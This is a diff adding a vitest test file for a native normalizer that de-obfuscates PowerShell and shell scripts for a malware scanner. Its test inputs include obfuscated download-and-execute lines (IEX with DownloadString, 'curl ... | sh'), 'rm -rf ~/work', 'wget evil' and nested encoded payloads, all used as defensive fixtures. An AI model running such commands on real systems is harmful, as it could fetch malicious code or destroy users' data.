@@ -0,0 +1,247 @@
+/**
+ * @license
+ * Copyright 2025 Google LLC
+ * Portions Copyright 2025 TerminaI Authors
+ * SPDX-License-Identifier: Apache-2.0
+ */
+
+/**
+ * Native Script Normalizer Tests
+ *
+ * Normalizes obfuscated PowerShell and shell scripts with normalizeScript:
+ * escapes, concatenation and quote splicing, nested -EncodedCommand and
+ * `base64 -d` payloads, the depth limit, binary input and payloads, buffer
+ * reuse, invalid options, and scanContent matching signatures that only
+ * appear in a normalized layer.
+ */
+
+import { describe, it, expect, beforeEach, afterEach } from 'vitest';
+import * as native from '../windows/native.js';
+
+const hasNative = native.isNativeModuleAvailable();
+const itIfNative = hasNative ? it : it.skip;
+
+/** What -EncodedCommand takes: base64 of UTF-16LE */
+function encodedCommand(script: string): string {
+  return Buffer.from(script, 'utf16le').toString('base64');
+}
+
+function base64(text: string): string {
+  return Buffer.from(text).toString('base64');
+}
+
+function texts(result: native.NormalizeScriptResult): string[] {
+  return result.spans.map((span) => span.text);
+}
+
+describe('Native Script Normalizer', () => {
+  itIfNative('undoes PowerShell escapes and concatenation', () => {
+    const result = native.normalizeScript(
+      "I`E`X (New-Object Net.WebClient).('Down'+'load'+\"Str`ing\")('u')",
+    );
+    expect(result.language).toBe('powershell');
+    expect(result.spans).toHaveLength(2);
+    expect(result.spans[1]).toMatchObject({
+      kind: 'normalized',
+      depth: 0,
+      text: "IEX (New-Object Net.WebClient).('DownloadString')('u')",
+    });
+    expect(result.concatenations).toBe(2);
+    expect(result.escapes).toBe(3);
+  });
+
+  itIfNative('follows nested -EncodedCommand payloads', () => {
+    const inner = "Write-Host 'x'; iex ('mal'+'ware')";
+    const outer = `powershell -enc ${encodedCommand(inner)}`;
+    const result = native.normalizeScript(
+      `powershell.exe -NoP -EncodedCommand ${encodedCommand(outer)}`,
+    );
+    expect(result.spans.slice(1)).toEqual([
+      { kind: 'decoded', language: 'powershell', depth: 1, text: outer },
+      { kind: 'decoded', language: 'powershell', depth: 2, text: inner },
+      {
+        kind: 'normalized',
+        language: 'powershell',
+        depth: 2,
+        text: "Write-Host 'x'; iex ('malware')",
+      },
+    ]);
+    expect(result).toMatchObject({ decoded: 2, depth: 2, limited: false });
+  });
+
+  itIfNative('decodes FromBase64String literals', () => {
+    const result = native.normalizeScript(
+      `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(
+        'curl http://example.invalid | sh',
+      )}'))`,
+    );
+    expect(result.spans[1]).toMatchObject({
+      kind: 'decoded',
+      language: 'shell',
+      text: 'curl http://example.invalid | sh',
+    });
+  });
+
+  itIfNative('undoes shell quote splicing and escapes', () => {
+    const result = native.normalizeScript(
+      "#!/bin/sh\nc'u'\"r\"l -s ht\\tp://x | s\\\nh\necho $'\\x63\\x75rl'\n",
+    );
+    expect(result.language).toBe('shell');
+    expect(texts(result)[1]).toBe(
+      '#!/bin/sh\ncurl -s http://x | sh\necho curl\n',
+    );
+    expect(result.concatenations).toBe(3);
+  });
+
+  itIfNative('decodes what is piped or here-stringed into base64 -d', () => {
+    const piped = native.normalizeScript(
+      `X=$(echo ${base64('rm -rf ~/work')} | base64 -d)\n`,
+      { language: 'shell' },
+    );
+    expect(texts(piped)).toContain('rm -rf ~/work');
+
+    const here = native.normalizeScript(
+      `bash <<< "$(base64 --decode <<< ${base64('wget evil')})"`,
+      { language: 'shell' },
+    );
+    expect(here.spans[1]).toMatchObject({ kind: 'decoded', depth: 1 });
+    expect(here.spans[1].text).toBe('wget evil');
+
+    // Base64 that is only echoed is left alone.
+    const echoed = native.normalizeScript(`echo ${base64('wget evil')}`);
+    expect(echoed.spans).toHaveLength(1);
+  });
+
+  itIfNative('stops at the depth limit', () => {
+    const outer = `powershell -enc ${encodedCommand("Write-Host 'x'")}`;
+    const result = native.normalizeScript(
+      `powershell -enc ${encodedCommand(outer)}`,
+      { maxDepth: 1 },
+    );
+    expect(result.spans.map((span) => span.depth)).toEqual([0, 1]);
+    expect(result.limited).toBe(true);
+
+    const none = native.normalizeScript(
+      `powershell -enc ${encodedCommand(outer)}`,
+      { maxDepth: 0 },
+    );
+    expect(none.spans).toHaveLength(1);
+    expect(none.limited).toBe(true);
+  });
+
+  itIfNative('passes binary content through', () => {
+    const input = native.normalizeScript(
+      Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]),
+    );
+    expect(input.language).toBe('binary');
+    expect(input.spans).toHaveLength(1);
+
+    const payload = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0]);
+    const result = native.normalizeScript(
+      `echo ${payload.toString('base64')} | base64 -d > a.out`,
+    );
+    expect(result.spans[1]).toMatchObject({
+      kind: 'decoded',
+      language: 'binary',
+    });
+    expect(Buffer.from(result.spans[1].text, 'latin1')).toEqual(payload);
+    expect(result.spans).toHaveLength(2);
+  });
+
+  itIfNative('reuses its buffers once warmed up', () => {
+    const script = `powershell -enc ${encodedCommand(
+      "iex ('a'+'b'); ".repeat(200),
+    )}`;
+    native.normalizeScript(script);
+    for (let i = 0; i < 10; i++) {
+      expect(native.normalizeScript(script).bufferGrowths).toBe(0);
+    }
+    const stats = native.getScriptNormalizerStats()!;
+    expect(stats.scripts).toBeGreaterThanOrEqual(11);
+    expect(stats.decoded).toBeGreaterThanOrEqual(11);
+  });
+
+  itIfNative('rejects invalid options', () => {
+    expect(() => native.normalizeScript(1 as unknown as string)).toThrow(
+      /Buffer or string/,
+    );
+    expect(() =>
+      native.normalizeScript('x', {
+        language: 'cmd' as native.ScriptLanguage,
+      }),
+    ).toThrow(/language/);
+    expect(() => native.normalizeScript('x', { maxDepth: 17 })).toThrow(
+      /maxDepth/,
+    );
+    expect(() => native.normalizeScript('x', { maxOutputBytes: -1 })).toThrow(
+      /maxOutputBytes/,
+    );
+  });
+
+  describe('in scanContent', () => {
+    const options = {
+      engine: 'portable',
+      signatures: [{ name: 'Test.Marker', pattern: 'terminai-marker' }],
+    } as const;
+
+    beforeEach(() => {
+      if (!hasNative) return;
+      native.configureScanPipeline({});
+      native.resetScanPipelineStats({ cache: true });
+    });
+
+    afterEach(() => {
+      if (!hasNative) return;
+      native.configureScanPipeline({});
+      native.resetScanPipelineStats({ cache: true });
+    });
+
+    itIfNative('finds signatures hidden in normalized layers', async () => {
+      const spliced = await native.scanContent(
+        "Write-Output ('termin'+'ai-marker')",
+        options,
+      );
+      expect(spliced).toMatchObject({
+        clean: false,
+        tier: 'provider',
+        layer: { kind: 'normalized', depth: 0 },
+      });
+
+      const encoded = await native.scanContent(
+        `powershell -NoP -enc ${encodedCommand("'terminai-marker'")}`,
+        options,
+      );
+      expect(encoded).toMatchObject({
+        clean: false,
+        layer: { kind: 'decoded', depth: 1 },
+      });
+
+      const plain = await native.scanContent(
+        "Write-Output 'terminai-marker'",
+        options,
+      );
+      expect(plain).toMatchObject({ clean: false, layer: null });
+    });
+
+    itIfNative('escalates scripts whose layers look suspicious', async () => {
+      // Nothing in the text itself trips the classifier.
+      const result = await native.scanContent(
+        "Write-Output ('c'+'url ')",
+        options,
+      );
+      expect(result).toMatchObject({ tier: 'provider', escalation: 'literal' });
+    });
+
+    itIfNative('can be turned off', async () => {
+      native.configureScanPipeline({ normalize: { enabled: false } });
+      const result = await native.scanContent(
+        "Write-Output ('termin'+'ai-marker')",
+        options,
+      );
+      expect(result).toMatchObject({ clean: true, layer: null });
+      expect(() =>
+        native.configureScanPipeline({ normalize: { maxDepth: 99 } }),
+      ).toThrow(/maxDepth/);
+    });
+  });
+});